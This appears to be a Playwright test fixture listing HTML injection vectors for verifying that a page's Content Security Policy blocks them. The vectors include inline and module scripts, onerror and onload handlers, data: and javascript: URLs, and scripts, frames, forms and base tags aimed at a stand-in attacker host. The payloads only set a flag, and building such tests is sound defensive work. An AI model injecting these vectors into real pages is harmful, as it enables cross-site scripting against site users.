import type { Page } from '@playwright/test';

/** Host of the attacker: does not exist, and every request to it is caught. */
export const attacker = 'http://ke-tan-cong.invalid';

export interface Injection {
  readonly name: string;
  /** What gets into the page's HTML. */
  readonly html: string;
  /** What the reader does; nothing where the injection needs no help. */
  readonly act?: (page: Page) => Promise<void>;
  /** Whether it took effect; by default, whether its script ran. */
  readonly worked?: (page: Page) => Promise<boolean>;
}

const scriptRan = (page: Page): Promise<boolean> => page.evaluate(() => 'injected' in globalThis);
const run = 'globalThis.injected = true';

/** Ways of making a page do what its author did not write, each of which works on a page without a policy. */
export const injections: readonly (Injection & Required<Pick<Injection, 'worked'>>)[] = [
  { name: 'an inline script', html: `<script>${run}</script>`, worked: scriptRan },
  { name: 'an inline module', html: `<script type="module">${run}</script>`, worked: scriptRan },
  {
    name: 'an image with an error handler',
    html: `<img src="/khong-co.png" alt="" onerror="${run}">`,
    worked: scriptRan,
  },
  { name: 'a drawing with a load handler', html: `<svg onload="${run}"></svg>`, worked: scriptRan },
  {
    name: 'a script of a data: address',
    html: `<script src="data:text/javascript,${run}"></script>`,
    worked: scriptRan,
  },
  { name: 'a script of another host', html: `<script src="${attacker}/script.js"></script>`, worked: scriptRan },
  {
    name: 'a javascript: link',
    html: `<a id="bay" href="javascript:${run};void 0">Bấm vào đây</a>`,
    act: (page) => page.locator('#bay').click(),
    worked: scriptRan,
  },
  {
    name: 'a style element',
    html: '<style>body { opacity: 0.5 }</style>',
    worked: (page) => page.evaluate(() => getComputedStyle(document.body).opacity === '0.5'),
  },
  {
    name: 'a style attribute',
    html: '<p id="bay" style="position: fixed">Che mất trang</p>',
    worked: (page) => page.locator('#bay').evaluate((element) => getComputedStyle(element).position === 'fixed'),
  },
  {
    name: 'a style sheet of another host',
    html: `<link rel="stylesheet" href="${attacker}/style.css">`,
    worked: (page) => page.evaluate(() => getComputedStyle(document.body).opacity === '0.5'),
  },
  {
    name: 'an image of another host',
    html: `<img id="bay" src="${attacker}/image.svg" alt="">`,
    worked: (page) =>
      page.locator('#bay').evaluate((image) => image instanceof HTMLImageElement && image.naturalWidth > 0),
  },
  {
    name: 'a frame of another host',
    html: `<iframe src="${attacker}/frame.html" title="Khung"></iframe>`,
    worked: (page) => Promise.resolve(page.frames().some((frame) => frame.url() === `${attacker}/frame.html`)),
  },
  {
    name: 'a form that sends elsewhere',
    html: `<form action="${attacker}/form.html"><button id="bay">Gửi</button></form>`,
    // Playwright's own click would wait for the navigation that must not come.
    act: (page) => page.locator('#bay').dispatchEvent('click'),
    worked: (page) => Promise.resolve(page.url().startsWith(attacker)),
  },
  {
    name: 'a base address elsewhere',
    html: `<base href="${attacker}/">`,
    worked: (page) => page.evaluate((host) => document.baseURI.startsWith(host), attacker),
  },
];
